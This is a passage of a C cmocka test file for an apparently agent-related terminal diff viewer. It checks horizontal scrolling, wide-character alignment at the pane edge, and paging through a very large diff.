#define LSAQUO "\xe2\x80\xb9" /* the dim mark: the line starts further left */

static void test_long_line_scrolls_sideways(void **state)
{
    fx *f = *state;
    wr(f->orig, "long.txt", "short\n");
    wr(f->orig, "next.txt", "x\n");
    start(f, long_line, 30, 100);
    /* Cut at the pane's edge, with the mark in the last column. */
    char line[2048];
    int r = row_of(f, "   1 +wwww", line, sizeof line);
    lacks(f, "TAILMARK");
    lacks(f, "col +");
    assert_true(strlen(line) > 3 && strcmp(line + strlen(line) - 3, RSAQUO) == 0);
    assert_string_equal(lc_ui_role_at(f->app, r, 99), "lineno");
    assert_string_equal(lc_ui_role_at(f->app, r, 98), "diff_add");
    /* l: half the text's width (100 - 6 for the gutter) at a time. */
    keys(f, "l");
    has(f, "> Diffs col +47  2 files");
    has_row(f, "   1 -" LSAQUO); /* the short old line, scrolled past its end */
    keys(f, "llll");
    /* l stops where the end of the longest line is in view: 300 - 93. */
    has(f, "> Diffs col +207  2 files");
    has(f, "wwwTAILMARK!!\n");
    r = row_of(f, "TAILMARK", line, sizeof line);
    assert_true(lc_str_starts_with(line, "   1 +" LSAQUO "www")); /* the gutter stays */
    assert_string_equal(lc_ui_role_at(f->app, r, 3), "lineno");
    keys(f, "l");
    has(f, "col +207  ");
    keys(f, "h");
    has(f, "col +160  ");
    lacks(f, "TAILMARK");
    /* 0 and Home go back to column 0; g still goes to the top. */
    keys(f, "0");
    lacks(f, "col +");
    has(f, "   1 +wwww");
    has(f, "   1 -short");
    keys(f, "ll<Home>");
    lacks(f, "col +");
    keys(f, "<Right><Right>");
    has(f, "col +94  ");
    keys(f, "<Left>");
    has(f, "col +47  ");
    /* Another file starts at column 0. */
    keys(f, "J");
    lacks(f, "col +");
    has(f, "[ ] M next.txt");
}

/* Rows whose text continues at the same columns after any offset: wide
 * characters on even columns, '[' on even columns, a control byte shown as
 * two visible columns, a tab, and combining accents. */
static void wide_lines(fx *f)
{
    char *cjk = repeat("\xe4\xb8\xad", 150), *pairs = repeat("[]", 150), *acc = repeat("e\xcc\x81", 150);
    char *text = lc_xasprintf("ab%s\nab%s\nab\x1b%s\na\t%s\nab%s\n", cjk, pairs, pairs, pairs, acc);
    edit(f->shadow, "wide.txt", text);
    free(text);
    free(cjk);
    free(pairs);
    free(acc);
}

static void test_wide_chars_scroll_aligned(void **state)
{
    fx *f = *state;
    wr(f->orig, "wide.txt", "x\n");
    start(f, wide_lines, 30, 100);
    keys(f, "l"); /* 47: the second half of a wide character */
    has(f, "col +47  ");
    /* 92 columns of text, then the mark. The character cut in half is a
     * space; the next starts at the column of the next '['; the last, that
     * would not fit, is left out. */
    char *cjk = repeat("\xe4\xb8\xad", 45), *pairs = repeat("[]", 45), *acc = repeat("e\xcc\x81", 92);
    char *row = lc_xasprintf("   1 +" LSAQUO " %s " RSAQUO, cjk);
    has_row(f, row);
    free(row);
    row = lc_xasprintf("   2 +" LSAQUO "]%s[" RSAQUO, pairs);
    has_row(f, row);
    free(row);
    row = lc_xasprintf("   3 +" LSAQUO "]%s[" RSAQUO, pairs); /* ESC drawn as ^[ */
    has_row(f, row);
    free(row);
    row = lc_xasprintf("   4 +" LSAQUO "]%s[" RSAQUO, pairs); /* the tab to column 4 */
    has_row(f, row);
    free(row);
    /* Each accent stays on its letter: none is left over at the edge. */
    row = lc_xasprintf("   5 +" LSAQUO "%s" RSAQUO, acc);
    has_row(f, row);
    free(row);
    free(cjk);
    free(pairs);
    free(acc);
    /* One more step (94, even): whole characters from the first column. */
    keys(f, "l");
    has(f, "col +94  ");
    cjk = repeat("\xe4\xb8\xad", 46);
    row = lc_xasprintf("   1 +" LSAQUO "%s" RSAQUO, cjk);
    has_row(f, row);
    free(row);
    free(cjk);
}

static void big_change(fx *f)
{
    lc_buf b = LC_BUF_INIT;
    for (int i = 1; i <= 100000; i++)
        lc_buf_printf(&b, "changed %d\n", i);
    edit(f->shadow, "big.txt", b.data);
    lc_buf_free(&b);
}

static void test_big_diff_pages(void **state)
{
    fx *f = *state;
    lc_buf b = LC_BUF_INIT;
    for (int i = 1; i <= 100000; i++)
        lc_buf_printf(&b, "line %d\n", i);
    wr(f->orig, "big.txt", b.data);
    lc_buf_free(&b);
    start(f, big_change, 30, 100);
    has(f, "[ ] M big.txt  +100000 -100000");
    has(f, "     1 -line 1\n");
    for (int i = 0; i < 10; i++)
        keys(f, "<PgDn>");
    has(f, " -line 2");
    lacks(f, "[ ] M big.txt");
    keys(f, "G");
    has(f, "100000 +changed 100000");
    keys(f, "g");
    has(f, "[ ] M big.txt");
}

int main(void)
{
    lc_err err = {0};
    if (lc_diff_global_init(&err) != LC_OK) {
        fprintf(stderr, "%s\n", err.msg);
        return 1;
    }
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_search_in_diffs, setup, teardown),
        cmocka_unit_test_setup_teardown(test_word_highlight_and_long_path, setup, teardown),
        cmocka_unit_test_setup_teardown(test_copy_hunk, setup, teardown),
        cmocka_unit_test_setup_teardown(test_click_picks_hunk, setup, teardown),
        cmocka_unit_test_setup_teardown(test_select_apply_undo, setup, teardown),
        cmocka_unit_test_setup_teardown(test_selection_survives_agent_steps, setup, teardown),
        cmocka_unit_test_setup_teardown(test_selection_dropped_when_the_agent_changes_it, setup, teardown),
        cmocka_unit_test_setup_teardown(test_apply_refused_when_log_failed, setup, teardown),
        cmocka_unit_test_setup_teardown(test_apply_and_skip_whole_files, setup, teardown),
        cmocka_unit_test_setup_teardown(test_files_litecode_reads_are_flagged, setup, teardown),
        cmocka_unit_test_setup_teardown(test_revert_tells_the_agent, setup, teardown),
        cmocka_unit_test_setup_teardown(test_conflict_shown, setup, teardown),
        cmocka_unit_test_setup_teardown(test_split_apply_undo_redo, setup, teardown),
        cmocka_unit_test_setup_teardown(test_line_mode_takes_one_line, setup, teardown),
        cmocka_unit_test_setup_teardown(test_like_filter_bulk, setup, teardown),
        cmocka_unit_test_setup_teardown(test_refresh_keeps_splits_and_lines, setup, teardown),
        cmocka_unit_test_setup_teardown(test_refresh_carries_unchanged_hunks, setup, teardown),
        cmocka_unit_test_setup_teardown(test_whole_item_becomes_hunks, setup, teardown),
        cmocka_unit_test_setup_teardown(test_edit_hunk, setup, teardown),
        cmocka_unit_test_setup_teardown(test_big_diff_pages, setup, teardown),
        cmocka_unit_test_setup_teardown(test_long_line_scrolls_sideways, setup, teardown),
        cmocka_unit_test_setup_teardown(test_wide_chars_scroll_aligned, setup, teardown),
    };
    int rc = cmocka_run_group_tests(tests, NULL, NULL);
    lc_diff_global_shutdown();
    return rc;
}
